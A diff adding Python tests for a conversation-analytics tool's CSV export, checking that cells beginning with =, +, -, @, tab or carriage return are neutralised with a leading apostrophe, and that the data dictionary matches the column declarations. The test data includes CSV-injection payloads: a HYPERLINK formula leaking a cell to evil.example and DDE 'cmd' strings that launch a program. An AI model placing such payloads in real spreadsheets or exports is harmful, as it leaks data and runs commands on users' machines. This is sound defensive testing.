@@ -138,3 +138,52 @@ def test_csv_export_is_deterministic(results, corpus, manifest):
     first = render_export("csv", results, corpus, manifest=manifest)[0].data
     second = render_export("csv", results, corpus, manifest=manifest)[0].data
     assert first == second
+
+
+INJECTIONS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_cells_that_would_run_as_formulas_are_neutralised(results, corpus, manifest):
+    # OWASP's CSV-injection rule: a cell starting with = + - @ tab or CR gets a leading '.
+    conv = corpus.conversations[0]
+    conv.title = INJECTIONS[0]
+    for message, text in zip(conv.messages, INJECTIONS[1:], strict=False):
+        message.text = text
+    (out,) = render_export("csv", results, corpus, manifest=manifest)
+    archive = zipfile.ZipFile(io.BytesIO(out.data))
+    titles = {r["conversation_id"]: r["title"] for r in _rows(archive, "conversations.csv")}
+    assert titles[conv.id] == "'" + INJECTIONS[0]
+    texts = {r["message_id"]: r["text"] for r in _rows(archive, "messages.csv")}
+    written = [texts[m.id] for m in conv.messages[: len(INJECTIONS) - 1]]
+    assert written == ["'" + t for t in INJECTIONS[1 : 1 + len(written)]]
+    every_cell = [v for name in archive.namelist() if name.endswith(".csv")
+                  for row in csv.reader(io.StringIO(archive.read(name).decode(), newline=""))
+                  for v in row]  # fmt: skip
+    assert not [v for v in every_cell if v[:1] in ("=", "+", "@", "\t", "\r")]
+    # Numbers stay numbers: a negative score is written as -0.5, not as text.
+    scores = [r["compound"] for r in _rows(archive, "sentiment.csv")]
+    assert any(s.startswith("-") and float(s) < 0 for s in scores)
+
+
+def test_dictionary_comes_from_the_column_declarations(archive, results, corpus):
+    # Headers, cells and the dictionary are read from one declaration per column.
+    from convoscope_exporter.tables import build_tables
+
+    dictionary = {(r["table"], r["column"]): r for r in _rows(archive, "data_dictionary.csv")}
+    for table in build_tables(results, corpus):
+        for column in table.columns:
+            entry = dictionary[(table.name, column.name)]
+            assert (entry["type"], entry["description"]) == (column.kind, column.description)
+        assert all(len(row) == len(table.columns) for row in table.rows)
+    # The summary's model counts are assistant messages (the engine's definition).
+    models = [r for r in _rows(archive, "summary.csv") if r["metric"].startswith("models.")]
+    assert models and all(
+        r["description"].startswith("Assistant messages per model") for r in models
+    )
